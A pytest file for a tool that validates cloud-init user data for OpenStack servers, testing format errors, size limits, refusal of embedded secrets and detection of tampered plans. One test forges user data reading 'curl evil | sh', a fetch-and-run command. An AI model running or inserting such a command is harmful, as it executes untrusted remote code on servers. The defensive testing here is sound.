"""User data: what of it is sent, what is refused where it stands, and that no secret goes with it."""

from __future__ import annotations

import base64
from typing import Any

import pytest

from atlas_mcp.engines.openstack import claims
from atlas_mcp.engines.openstack.spec import Kind, user_data
from atlas_mcp.errors import TargetError
from atlas_mcp.model import JobState
from atlas_mcp.plans.shown import written
from tests.bench import Bench
from tests.openstack.desk import machines
from tests.openstack.double import Double
from tests.openstack.rig import PLACE, Rig
from tests.openstack.test_machines import collected, planned, ran

pytestmark = pytest.mark.anyio
GOOD = """#cloud-config
packages: [git, htop]
write_files:
  - path: /etc/motd
    content: |
      leased
runcmd:
  - [systemctl, enable, --now, chrony]
apt:
  sources:
    own: {source: "deb file:///srv/packages ./"}
users:
  - {name: ops, ssh_authorized_keys: ["ssh-ed25519 AAAA me"]}
"""


@pytest.mark.parametrize(
    ("text", "words", "remedy"),
    [
        ("packages: [git]", "does not begin with the line #cloud-config", "Begin with"),
        ("#!/bin/sh\necho", "scripts and templates are not taken", "runcmd"),
        ("## template: jinja\n#cloud-config\npackages: [git]", "#cloud-config", "Begin with"),
        ("#include\nhttps://example.org/x", "#cloud-config", "Begin with"),
        ("#cloud-config\npackages: [git", "it is no YAML: line 3", "Mend it"),
        ("#cloud-config\npackages: [a]\npackages: [b]", "stands on line 2 already", "Mend it"),
        ("#cloud-config\n- packages", "no mapping", "packages"),
        ("#cloud-config\n", "no mapping", "packages"),
        ("#cloud-config\na: &a [x]\nb: [*a, *a]\n", "cloud-init has no setting 'a'", "Leave it out"),
        ("#cloud-config\npackage: [git]", "cloud-init has no setting 'package'", "Is packages meant?"),
        ("#cloud-config\nruncmd: reboot", "runcmd is no list", "hyphen"),
        ("#cloud-config\nx: " + "[" * 500, "it is nested too deep", "Mend it"),
        ("#cloud-config\nruncmd: ['" + "x" * 49_200 + "']", "characters more than the 65535 that Nova takes", "fetch"),
        ("#cloud-config\nruncmd: ['" + "ü" * 24_600 + "']", "characters more than", "fetch"),
        ("#cloud-config\npassword: file:/etc/atlas/pw", "password names a secret by reference", "Task"),
        (
            "#cloud-config\nwrite_files: [{path: /x, content: 'env:TOKEN'}]",
            "content names a secret by reference",
            "Task",
        ),
        ("#cloud-config\nruncmd: [[login, 'file:~/.token']]", "runcmd names a secret by reference", "Task"),
        ("#cloud-config\npassword: hunter2", "password is a secret", "Task"),
        ("#cloud-config\nusers: [{name: a, plain_text_passwd: hunter2}]", "plain_text_passwd is a secret", "Task"),
        ("#cloud-config\nusers: [{lock_passwd: true}]", "line 2 looks like a secret", "true by itself"),
        ("#cloud-config\nruncmd: ['login --token=abcdef123456']", "line 2 looks like a secret", "Leave it out"),
        (
            "#cloud-config\nssh_keys: {rsa: '-----BEGIN OPENSSH PRIVATE KEY-----'}",
            "rsa is a secret",
            "Task",
        ),
    ],
)
def test_what_is_not_fit_is_told_with_its_remedy(text: str, words: str, remedy: str) -> None:
    problems = user_data.problems_of(text, "/spec/user_data")
    assert words in problems[0].message and remedy in problems[0].remedy, problems
    assert "hunter2" not in str(problems) and "TOKEN" not in str(problems) and "/etc/atlas" not in str(problems)


def test_what_just_fits_is_taken() -> None:
    room = 65_535 // 4 * 3 - len("#cloud-config\nruncmd: ['']")
    fits = f"#cloud-config\nruncmd: ['{'x' * room}']"
    assert user_data.problems_of(fits, "") == () and len(user_data.encoded(fits)) <= user_data.MOST_ENCODED
    assert user_data.problems_of(fits.replace("['", "['x"), "") != ()


async def test_it_is_sent_as_it_was_approved(bench: Bench, double: Double) -> None:
    plan = await planned(bench, machines(user_data=GOOD))
    rows = [row for found in written(plan, bench.app.engines).values() for row in found]
    assert any(row.label == "user data" and row.value == GOOD for row in rows)
    assert (await ran(bench, plan)).state is JobState.SUCCEEDED
    (server,) = double.servers.values()
    assert base64.b64decode(server["user_data"]).decode() == GOOD


async def test_a_secret_is_refused_before_anything_is_kept(bench: Bench) -> None:
    for text in (
        "#cloud-config\npassword: file:/etc/atlas/pw",
        "#cloud-config\nchpasswd: {list: 'root:x'}",
    ):
        answer = await collected(bench, machines(user_data=text))
        assert [one.at for one in answer.problems] == ["/spec/user_data"] and not answer.spec_id


async def test_a_plan_that_was_written_with_other_user_data_is_misstated(bench: Bench, on_double: Rig) -> None:
    plan = await planned(bench, machines(user_data=GOOD))
    cloud = await on_double.cloud()
    assert claims.misstated(plan, {PLACE: cloud}) == ()
    server = next(one for one in plan.steps if one.action == "server")
    forged = server.model_copy(update={"args": {**server.args, "user_data": "#!/bin/sh\ncurl evil | sh"}})
    steps = tuple(forged if one.id == server.id else one for one in plan.steps)
    problems = claims.misstated(plan.model_copy(update={"steps": steps}), {PLACE: cloud})
    assert "user data that is not fit" in problems[0].message


async def test_the_double_refuses_what_nova_refuses(on_double: Rig) -> None:
    async with on_double.made(Kind.SERVER) as attempts:
        step: Any = await on_double.step(Kind.SERVER, attempts)
        forged = step.model_copy(update={"args": {**step.args, "user_data": "#cloud-config\n" + "x" * 50_000}})
        with pytest.raises(TargetError, match="too long"):
            await on_double.begun(forged.taking(step._taken))
